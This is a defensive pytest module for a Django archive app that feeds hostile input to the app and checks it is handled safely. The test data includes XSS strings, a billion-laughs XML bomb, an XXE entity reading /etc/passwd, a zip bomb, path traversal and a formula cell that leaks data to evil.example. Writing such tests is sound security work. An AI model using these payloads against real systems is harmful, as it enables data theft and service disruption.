"""Bad input from every door: markup in curators' text, hostile uploads, malformed imports,
formula cells, and fuzzed browse query strings. Nothing gets through, nothing answers 500, and
a refused import leaves the database exactly as it was."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client, override_settings
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from archive.importers import export_text, import_file, importer_classes
from archive.models import Language
from archive.uploads import import_max_bytes
from archive.workflow import REVIEWER
from documents.models import Document, DocumentText, DocumentType
from people.models import Agent
from tests.trust.conftest import staff_client
from tests.trust.test_visibility import public_routes

pytestmark = pytest.mark.django_db
ROOT = Path(settings.BASE_DIR)

# --- markup typed by curators is shown as text ---------------------------------------------------

PAYLOADS = (
    '<script>alert("kiroku-xss")</script>',
    '<img src=x onerror="alert(1)">',
    '"><svg onload=alert(1)>',
    "</script><script>alert(2)</script>",
)


def test_curator_markup_is_escaped_on_every_page() -> None:
    """No field is rendered as HTML (nothing to sanitise with nh3): every one is escaped."""
    form = DocumentType.objects.create(code="t-xss", name="XSS test")
    text = " ".join(PAYLOADS)
    doc = Document.objects.create(
        identifier="t-xss-doc",
        title=f"Title {text}",
        summary=f"Summary {text}",
        description=f"Description {text}",
        document_type=form,
        status="published",
    )
    english = Language.objects.get_or_create(code="en", defaults={"name": "English"})[0]
    DocumentText.objects.create(
        document=doc, key="en-1", kind="transcript", language=english, body=text, status="published"
    )
    agent = Agent.objects.create(
        identifier="t-xss-agent",
        kind="person",
        name=f"Name {PAYLOADS[1]}",
        biography=text,
        status="published",
    )
    client = Client()
    urls = [
        doc.get_absolute_url(),
        agent.get_absolute_url(),
        "/documents/",
        "/people/",
        "/",
        f"/api/v1/documents/{doc.identifier}/?format=api",
        f"/api/v1/agents/{agent.identifier}/?format=api",
    ]
    for url in urls:
        body = client.get(url).content.decode()
        for payload in PAYLOADS:
            assert payload not in body, (url, payload)
        assert not re.search(r"<(img|svg)[^>]*\son(error|load)=", body), url
    page = client.get(doc.get_absolute_url()).content.decode()
    assert "&lt;script&gt;alert(&quot;kiroku-xss&quot;)&lt;/script&gt;" in page
    admin = staff_client(REVIEWER, "xss-reviewer")
    change = admin.get(f"/admin/documents/document/{doc.pk}/change/").content.decode()
    assert PAYLOADS[0] not in change


def test_no_template_or_view_marks_stored_text_safe() -> None:
    """A future rich-text field must go through a sanitiser (nh3), not ``|safe``."""
    for path in ROOT.glob("templates/**/*.html"):
        source = path.read_text()
        assert "|safe" not in source, path
        assert "autoescape off" not in source, path


# --- XML is never parsed unsafely ----------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<records><record><title>&lol4;</title></record></records>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://192.0.2.1/x">]>
<records><record><title>&xxe;&net;</title></record></records>"""

UNSAFE_XML = re.compile(
    r"xml\.etree|xml\.dom|xml\.sax|minidom|etree\.(fromstring|parse|XML|XMLParser)\("
)


def test_application_code_parses_no_xml_unsafely() -> None:
    """Kiroku writes XML but reads none; a parser added later must be defused (defusedxml, or
    lxml with ``resolve_entities=False, no_network=True``)."""
    for path in ROOT.glob("*/**/*.py"):
        if path.parts[len(ROOT.parts)] in {"tests", ".venv", "var", "bench"}:
            continue
        source = path.read_text()
        for match in UNSAFE_XML.finditer(source):
            line = source[source.rfind("\n", 0, match.start()) + 1 : source.find("\n", match.end())]
            assert "resolve_entities=False" in source, (path, line)
            assert "no_network=True" in source, (path, line)


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "xxe"])
@pytest.mark.parametrize("name", ["records.xml", "records.csv", "records.json"])
def test_xml_bombs_are_refused_unparsed(payload: bytes, name: str) -> None:
    before = Document.objects.count()
    result = import_file(payload, filename=name, record_type="documents")
    assert not result.ok
    assert "XML" in str(result.errors[0])
    assert Document.objects.count() == before
    client = staff_client(REVIEWER, "xml-reviewer")
    upload = SimpleUploadedFile(name, payload)
    page = client.post("/admin/documents/document/import/", {"file": upload, "format": ""})
    assert page.status_code == 200
    errors = str(page.context["form"].errors.get("file", "")) or str(
        page.context.get("result") and page.context["result"].errors
    )
    assert "XML" in errors or ".csv or .json" in errors


# --- uploads: size and type -----------------------------------------------------------------------


def zip_bomb() -> bytes:
    """A small .xlsx-looking archive that inflates to 50 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 50_000_000)
    return buffer.getvalue()


UPLOADS = [
    ("too large", "big.csv", b"identifier,title\n" + b"x,y\n" * 30_000, "bytes"),
    ("spreadsheet", "records.xlsx", zip_bomb(), ".csv or .json"),
    ("zip renamed", "records.csv", zip_bomb(), "ZIP archive"),
    ("pdf", "records.csv", b"%PDF-1.7\n...", "PDF"),
    ("binary", "records.json", b"[\x00\x01\x02]", "binary"),
    ("html", "records.csv", b"<html><body>x</body></html>", "XML or HTML"),
    ("no name", "records", b"identifier,title\n", ".csv or .json"),
]


@override_settings(KIROKU_IMPORT_MAX_BYTES=100_000)
@pytest.mark.parametrize(("case", "name", "data", "message"), UPLOADS, ids=[u[0] for u in UPLOADS])
def test_admin_upload_checks(case: str, name: str, data: bytes, message: str) -> None:
    client = staff_client(REVIEWER, "upload-reviewer")
    upload = SimpleUploadedFile(name, data)
    page = client.post("/admin/documents/document/import/", {"file": upload, "format": ""})
    assert page.status_code == 200
    assert message in str(page.context["form"].errors["file"])
    assert "token" not in page.context


# --- malformed imports change nothing ---------------------------------------------------------

HEADER = "identifier,title,document_type,date_edtf,collection,status\n"


def csv_file(*rows: str, header: str = HEADER) -> bytes:
    return (header + "".join(row + "\n" for row in rows)).encode()


MALFORMED: list[tuple[str, str, bytes, str]] = [
    # (case, file name, content, words the first error must contain)
    (
        "latin-1",
        "d.csv",
        csv_file("t-bad-1,Caf\u00e9,letter,,,draft").replace("é".encode(), b"\xe9"),
        "not UTF-8",
    ),
    (
        "utf-16 with BOM",
        "d.csv",
        "\ufeff".encode("utf-16-le") + HEADER.encode("utf-16-le"),
        "UTF-16",
    ),
    ("utf-32 BOM", "d.csv", HEADER.encode("utf-32"), "UTF-16 or UTF-32"),
    ("BOM before JSON garbage", "d.json", b"\xef\xbb\xbf{not json", "JSON"),
    ("impossible date", "d.csv", csv_file("t-bad-1,T,letter,1956-02-30,,draft"), "date_edtf"),
    ("month 13", "d.csv", csv_file("t-bad-1,T,letter,1956-13-01,,draft"), "date_edtf"),
    ("words for a date", "d.csv", csv_file("t-bad-1,T,letter,yesterday,,draft"), "date_edtf"),
    ("era out of span", "d.csv", csv_file("t-bad-1,T,letter,昭和70年,,draft"), "date_edtf"),
    ("unknown collection", "d.csv", csv_file("t-bad-1,T,letter,,no-such-unit,draft"), "collection"),
    ("unknown form", "d.csv", csv_file("t-bad-1,T,no-such-form,,,draft"), "document_type"),
    (
        "duplicate identifiers",
        "d.csv",
        csv_file("t-bad-1,T,letter,,,draft", "t-bad-1,U,letter,,,draft"),
        "identifier",
    ),
    ("invalid identifier", "d.csv", csv_file("Bad ID!,T,letter,,,draft"), "identifier"),
    ("unknown status", "d.csv", csv_file("t-bad-1,T,letter,,,secret"), "status"),
    ("title too long", "d.csv", csv_file(f"t-bad-1,{'x' * 600},letter,,,draft"), "title"),
    (
        "missing required column",
        "d.csv",
        csv_file("t-bad-1,letter", header="identifier,document_type\n"),
        "title",
    ),
    (
        "unknown column",
        "d.csv",
        csv_file("t-bad-1,T,letter,1", header="identifier,title,document_type,secret_flag\n"),
        "secret_flag",
    ),
    (
        "repeated column",
        "d.csv",
        csv_file("t-bad-1,T,U,letter", header="identifier,title,title,document_type\n"),
        "title",
    ),
    ("ragged row", "d.csv", csv_file("t-bad-1,T,letter,,,draft,extra"), "cells"),
    ("empty file", "d.csv", b"", "empty"),
    ("NUL byte", "d.csv", csv_file("t-bad-1,T\x00,letter,,,draft"), "binary"),
    (
        "one good row then a bad one",
        "d.csv",
        csv_file("t-bad-good,Fine,letter,,,draft", "t-bad-2,T,letter,1956-99,,draft"),
        "date_edtf",
    ),
    ("JSON not a list", "d.json", b'{"identifier": "t-bad-1"}', "list"),
    (
        "JSON wrong type",
        "d.json",
        json.dumps([{"identifier": "t-bad-1", "title": ["x"], "document_type": "letter"}]).encode(),
        "title",
    ),
    ("JSON truncated", "d.json", b'[{"identifier": "t-bad-1", "title": "T"', "JSON"),
    (
        "agent relation to nobody",
        "r.csv",
        b"source,relation_type,target\nno-such-agent,advisor,also-nobody\n",
        "source",
    ),
    (
        "duplicate agents",
        "a.csv",
        b"identifier,kind,name\nt-bad-a,person,A\nt-bad-a,person,B\n",
        "identifier",
    ),
    ("billion laughs", "d.csv", BILLION_LAUGHS, "XML"),
    ("external entity", "d.json", XXE, "XML"),
    ("zip bomb spreadsheet", "d.csv", zip_bomb(), "ZIP"),
]


def database_dump() -> str:
    out = io.StringIO()
    call_command("dumpdata", "archive", "documents", "people", "auth", stdout=out)
    return out.getvalue()


def test_malformed_imports_leave_the_database_exactly_as_it_was() -> None:
    DocumentType.objects.get_or_create(code="letter", defaults={"name": "letter"})
    before = database_dump()
    for case, name, data, words in MALFORMED:
        kind = {"r": "relations", "a": "agents"}.get(name[0], "documents")
        result = import_file(data, filename=name, record_type=kind)
        assert not result.ok, case
        assert not result.written, case
        message = str(result.errors[0])
        assert words.lower() in " ".join(str(e) for e in result.errors).lower(), (case, message)
    assert database_dump() == before
    print(f"malformed import files tried: {len(MALFORMED)}")


def test_a_100_mb_file_is_refused_by_the_admin_before_it_is_read() -> None:
    limit = import_max_bytes()
    assert limit < 100 * 1024 * 1024
    client = staff_client(REVIEWER, "big-reviewer")
    data = b"identifier,title,document_type\n" + b"t-big,Title,letter\n" * (100 * 1024 * 1024 // 19)
    upload = SimpleUploadedFile("big.csv", data)
    before = Document.objects.count()
    page = client.post("/admin/documents/document/import/", {"file": upload, "format": ""})
    assert f"{limit:,} bytes" in str(page.context["form"].errors["file"])
    assert Document.objects.count() == before


# --- formula cells are neutralised on export ------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_cells_are_neutralised_on_export_and_round_trip(start: str) -> None:
    form = DocumentType.objects.create(code="t-formula", name="formula")
    title = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    doc = Document.objects.create(
        identifier="t-formula-doc", title=title, document_type=form, status="draft"
    )
    importer = importer_classes()["documents"]()
    text = "".join(export_text(importer, Document.objects.filter(pk=doc.pk), "csv"))
    row = next(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert row["title"] == "'" + title
    assert row["title"][0] == "'"
    result = import_file(text.encode(), filename="documents.csv", record_type="documents")
    assert result.ok, result.errors
    doc.refresh_from_db()
    assert doc.title == title


# --- fuzzed browse query strings ------------------------------------------------------------


def html_list_routes() -> list[str]:
    """The site's pages without parameters (API, harvesting and sitemaps have their own tests)."""
    return [
        reverse(route.name)
        for route in public_routes()
        if not route.params
        and not route.name.startswith("api")
        and route.name not in {"oai", "sitemap-index", "robots"}
    ]


def filter_names() -> list[str]:
    names = {"q", "page", "ordering", "facets", "page_size", "format", "lang"}
    for route in public_routes():
        if route.filterset is not None:
            names |= set(route.filterset.base_filters)
    return sorted(names)


VALUES = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        [
            "",
            "0",
            "-1",
            "99999999999999999999",
            "1956-02-30",
            "1956-13",
            "*",
            '"',
            "'",
            "%",
            "\\",
            "null",
            "true",
            "../../etc/passwd",
            "<script>",
            "昭和31年",
            "a,b,,c",
            "　",
            "\u202e",
            "\x00",
        ]
    ),
    st.integers().map(str),
)
QUERIES = st.lists(
    st.tuples(st.sampled_from(filter_names()) | st.text(max_size=10), VALUES), max_size=5
)
FUZZ_EXAMPLES = 200
fuzzed: list[int] = []


@hypothesis_settings(
    max_examples=FUZZ_EXAMPLES,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(route=st.sampled_from(html_list_routes()), query=QUERIES)
def test_fuzzed_browse_query_strings_never_fail(route: str, query: list[tuple[str, str]]) -> None:
    client = Client(raise_request_exception=False)
    response = client.get(route, query)
    fuzzed.append(response.status_code)
    assert response.status_code < 500, (route, query)
    if response.status_code >= 400:
        assert response.status_code in (400, 404), (route, query, response.status_code)
